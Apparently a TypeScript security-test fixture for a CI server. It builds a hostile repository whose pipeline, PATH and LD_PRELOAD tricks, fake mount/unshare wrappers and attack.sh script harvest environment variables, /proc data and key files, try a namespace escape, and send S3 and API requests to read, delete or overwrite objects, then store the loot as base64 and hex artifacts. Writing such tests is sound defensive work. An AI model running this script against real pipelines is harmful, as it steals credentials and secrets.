/**
 * What an outsider who has read our sources would try. Everything found goes to the log and, also encoded, to the
 * artifacts.
 */
export interface Targets {
  /** The server's data folder. */
  readonly data: string;
  /** Files and folders elsewhere that hold secrets. */
  readonly others: readonly string[];
  readonly stack: string;
}

const pipeline = `variables:
  SLIPWAY_TRUST: protected
  LD_PRELOAD: "$CI_PROJECT_DIR/none.so"
  PATH: "$CI_PROJECT_DIR/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
stages: [test]
look around:
  stage: test
  script: [sh attack.sh]
  after_script: [sh attack.sh]
  artifacts:
    when: always
    paths: [loot/, keys-by-link/]
    reports: { dotenv: loot/env.txt }
`;

/** A tree that changes all it can: the pipeline, the policy that would let it run, and the scripts. */
export function hostileStack({ data, others, stack }: Targets): Readonly<Record<string, string>> {
  const attack = `mkdir -p loot
ln -sfn ${data}/keys keys-by-link
ln -sf ${data}/keys/server-secret loot/link
ln ${data}/keys/server-secret loot/hard 2>/dev/null
{
  env
  cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\000' '\\n'
  find ${data} ${others.join(' ')} "$CI_PROJECT_DIR/../.." /run /var/run /dev/shm -type f -size -4000k -exec cat {} +
  for pid in /proc/[0-9]*; do cat $pid/root${data}/keys/* $pid/cwd/keys/*; done
  unshare -Urm sh -c "umount ${data}; umount -l /tmp; mount -t proc proc /mnt; cat ${data}/keys/*"
  for key in pr/99/v3/planted.json pr/99/blobs/planted v3/layout.json pr/../pr/99/v3/planted.json; do
    for verb in GET DELETE PUT; do
      curl --silent --path-as-is --request $verb --header 'x-amz-content-sha256: UNSIGNED-PAYLOAD' --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" --aws-sigv4 aws:amz:us-east-1:s3 \\
        "$S3_ENDPOINT_URL/${stack}/$key"
    done
    curl --silent --path-as-is "$CI_SERVER_URL/mirrors/${stack}/$key"
  done
  curl --silent --header 'x-amz-content-sha256: UNSIGNED-PAYLOAD' --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" --aws-sigv4 aws:amz:us-east-1:s3 "$S3_ENDPOINT_URL/${stack}?list-type=2&prefix=pr/99/"
  for path in stacks stacks/${stack} pipelines/1 jobs/1 jobs/1/log; do curl --silent "$CI_SERVER_URL/api/v1/$path"; done
} > loot/out.txt 2>&1
env > loot/env.txt
base64 -w0 loot/out.txt > loot/out.base64
od -An -v -tx1 loot/out.txt | tr -d ' \\n' > loot/out.hex
cat loot/out.txt loot/out.base64
echo "searched $(wc -c < loot/out.txt) bytes"
`;
  return {
    '.gitlab-ci.yml': pipeline,
    'slipway.yaml': 'forks: run\n',
    'attack.sh': attack,
    'bin/unshare': '#!/bin/sh\nexec /usr/bin/sh "$CI_PROJECT_DIR/attack.sh"\n',
    'bin/mount': '#!/bin/sh\nexec /usr/bin/sh "$CI_PROJECT_DIR/attack.sh"\n',
  };
}

/** The forms in which a secret could leave: as it is, in hexadecimal, and in base64 at each of the three alignments. */
export function formsOf(secret: string): readonly string[] {
  const bytes = Buffer.from(secret);
  const aligned = [0, 1, 2].map((shift) => {
    const text = Buffer.concat([Buffer.alloc(shift), bytes])
      .toString('base64')
      .replaceAll('=', '');
    // The first and last characters hold bits of what stands beside the secret.
    return text.slice(shift === 0 ? 0 : shift + 1, -1);
  });
  return [secret, bytes.toString('hex'), ...aligned];
}
